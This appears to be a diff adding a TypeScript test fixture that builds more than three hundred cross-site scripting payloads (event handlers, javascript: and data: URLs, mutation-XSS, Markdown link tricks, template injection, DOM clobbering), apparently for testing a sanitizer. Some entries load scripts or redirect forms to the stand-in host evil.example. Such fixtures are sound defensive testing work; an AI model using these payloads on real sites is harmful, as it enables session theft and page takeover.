@@ -1,0 +1,126 @@
+/** Texts that try to run a script where they are shown: every one of them calls `hit()` or `alert()`. */
+const EVENTS = [
+  ...["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"],
+  ...["onpointerenter", "onbeforetoggle", "onscrollend"],
+];
+
+/** Elements that run a handler by themselves, or at a touch. */
+const ELEMENTS = [
+  ...["img src=x", "svg", "body", "video src=x", "audio src=x autoplay", "details open"],
+  ...["input autofocus", "marquee", "iframe", "object data=x", "a href=# autofocus tabindex=1"],
+];
+
+/** Addresses that are scripts, and ways of spelling them. */
+const ADDRESSES = [
+  "javascript:hit()",
+  "JaVaScRiPt:hit()",
+  " javascript:hit()",
+  "java\tscript:hit()",
+  "java\nscript:hit()",
+  "\u0001javascript:hit()",
+  "javascript&colon;hit()",
+  "&#106;avascript:hit()",
+  "&#x6A;avascript:hit()",
+  "&#0000106avascript:hit()",
+  "javascript:%68it()",
+  "javascript://a.example/%0Ahit()",
+  "vbscript:hit()",
+  "data:text/html,<script>hit()</script>",
+  "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg onload=hit()>",
+  "feed:javascript:hit()",
+  "view-source:javascript:hit()",
+  "blob:javascript:hit()",
+  "//evil.example/hit.js",
+  "\\\\evil.example\\hit.js",
+];
+
+/** Ways of putting an address into Markdown or HTML. */
+const PLACES: ((address: string) => string)[] = [
+  (address) => `[x](${address})`,
+  (address) => `[x](<${address}>)`,
+  (address) => `![x](${address})`,
+  (address) => `<${address}>`,
+  (address) => `[x]: ${address}\n\n[x]`,
+  (address) => `<a href="${address}">x</a>`,
+];
+
+const OTHERS = [
+  "<script>hit()</script>",
+  "<ScRiPt>hit()</sCrIpT>",
+  "<script src=//evil.example/hit.js></script>",
+  "<script/x>hit()</script >",
+  "<<script>script>hit()<</script>/script>",
+  "<scr<script>ipt>hit()</scr</script>ipt>",
+  "<script>hit()//",
+  '"><script>hit()</script>',
+  "'><img src=x onerror=hit()>",
+  '"onmouseover="hit()" x="',
+  "`-hit()-`",
+  "</textarea><script>hit()</script>",
+  "</title><script>hit()</script>",
+  "</style><script>hit()</script>",
+  "--><script>hit()</script>",
+  "]]><script>hit()</script>",
+  "<!--<img src='--><img src=x onerror=hit()//'>",
+  "<style>@import '//evil.example/hit.css'</style>",
+  "<p style=background:url(javascript:hit())>x</p>",
+  "<div style='animation:x' onanimationstart=hit()>x</div>",
+  "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
+  "<base href=//evil.example/>",
+  "<link rel=stylesheet href=javascript:hit()>",
+  "<form action=javascript:hit()><button>x</button></form>",
+  "<button formaction=javascript:hit()>x</button>",
+  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
+  "<embed src=javascript:hit()>",
+  "<svg><script>hit()</script></svg>",
+  "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
+  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+  "<svg><set attributeName=onload to=hit()>",
+  "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
+  "<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
+  "<template><img src=x onerror=hit()></template>",
+  "<xss id=x tabindex=1 onfocus=hit()>x</xss>",
+  "<img src=x onerror\u000B=hit()>",
+  "<img/src=x/onerror=hit()>",
+  "<img src=x\u0000 onerror=hit()>".replace("\0", ""),
+  '<img src="x` `<script>hit()</script>"` `>',
+  "<a href='&#x6a;avascript&#x3a;hit()'>x</a>",
+  "&lt;script&gt;hit()&lt;/script&gt;",
+  "&amp;lt;img src=x onerror=hit()&amp;gt;",
+  "\\<script>hit()\\</script>",
+  "```<script>\n</code></pre><script>hit()</script>\n```",
+  "`</code><img src=x onerror=hit()>`",
+  "> <img src=x onerror=hit()>",
+  "- <svg onload=hit()>",
+  "1. [x](javascript:hit())\n   <script>hit()</script>",
+  '[x](https://a.example "\\" onmouseover=hit() x=\\"")',
+  "[x](https://a.example 'a'onmouseover=hit()//')",
+  "[<img src=x onerror=hit()>](https://a.example)",
+  '![" onerror="hit()](x)',
+  "[x][y]\n\n[y]: javascript:hit() 'title'",
+  "**<img src=x onerror=hit()>**",
+  "@<script>hit()</script>",
+  "@mei-tanaka<img src=x onerror=hit()>",
+  "{{constructor.constructor('hit()')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the attacks
+  "${hit()}",
+  "<%= hit() %>",
+  "＜script＞hit()＜/script＞",
+  "<img src=x onerror=&#104;it()>",
+  "<details ontoggle=hit() open><summary>x</summary></details>",
+  "<a id=comments name=getElementById>x</a><img name=body>",
+  "<input id=comment-form name=action><form id=comment-reactions action=//evil.example>",
+];
+
+/** More than three hundred, each once. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...new Set([
+    ...OTHERS,
+    ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=hit()>x`)),
+    ...ADDRESSES.flatMap((address) => PLACES.map((put) => put(address))),
+  ]),
+];
